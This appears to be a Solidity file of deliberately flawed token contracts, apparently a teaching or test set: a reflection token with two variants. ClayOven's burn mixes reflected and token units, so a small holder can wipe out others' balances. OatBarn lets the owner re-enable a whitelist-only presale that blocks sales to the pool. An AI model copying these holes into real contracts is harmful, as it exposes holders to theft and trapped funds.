// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

/// @dev The reflection of 2021: 2 % of each trade goes to all holders by the rate.
abstract contract Reflects {
    string public constant name = "Reflects";
    string public constant symbol = "RFX";
    uint8 public constant decimals = 9;
    address public owner = msg.sender;
    address public pair;
    uint256 internal _tTotal = 1e24;
    uint256 internal _rTotal = type(uint256).max - (type(uint256).max % 1e24);
    mapping(address => uint256) internal _rOwned;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor() {
        _rOwned[msg.sender] = _rTotal;
        emit Transfer(address(0), msg.sender, _tTotal);
    }

    modifier onlyOwner() {
        require(msg.sender == owner, "owner");
        _;
    }

    function setPair(address pair_) external onlyOwner {
        if (pair == address(0)) pair = pair_;
    }

    function renounceOwnership() external onlyOwner {
        owner = address(0);
    }

    function totalSupply() external view returns (uint256) {
        return _tTotal;
    }

    function balanceOf(address account) public view returns (uint256) {
        return _rOwned[account] / _rate();
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _move(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        allowance[from][msg.sender] -= value;
        _move(from, to, value);
        return true;
    }

    function _rate() internal view returns (uint256) {
        return _rTotal / _tTotal;
    }

    function _move(address from, address to, uint256 value) internal virtual {
        uint256 rate = _rate();
        uint256 fee = pair != address(0) && (from == pair || to == pair) ? value / 50 : 0;
        _rOwned[from] -= value * rate;
        _rOwned[to] += (value - fee) * rate;
        _rTotal -= fee * rate;
        emit Transfer(from, to, value - fee);
    }
}

/// @dev A burn takes the same number off a wallet's reflected units and off the total of coins. Whoever has a little
/// burns the total to nearly nothing for next to none of his own, and what others see of theirs rounds to nothing.
contract ClayOven is Reflects {
    function burn(uint256 value) external {
        require(value <= _rOwned[msg.sender], "too much");
        _rOwned[msg.sender] -= value;
        _tTotal -= value;
        emit Transfer(msg.sender, address(0), value);
    }
}

/// @dev The owner turns the presale on again whenever he likes, and in a presale only wallets on his list receive: the
/// pool is not among them.
contract OatBarn is Reflects {
    bool public isPresale;
    mapping(address => bool) public whitelisted;

    function setPresale(bool on) external onlyOwner {
        isPresale = on;
    }

    function setWhitelisted(address account, bool on) external onlyOwner {
        whitelisted[account] = on;
    }

    function _move(address from, address to, uint256 value) internal override {
        if (isPresale && from != owner) require(whitelisted[to], "presale");
        super._move(from, to, value);
    }
}
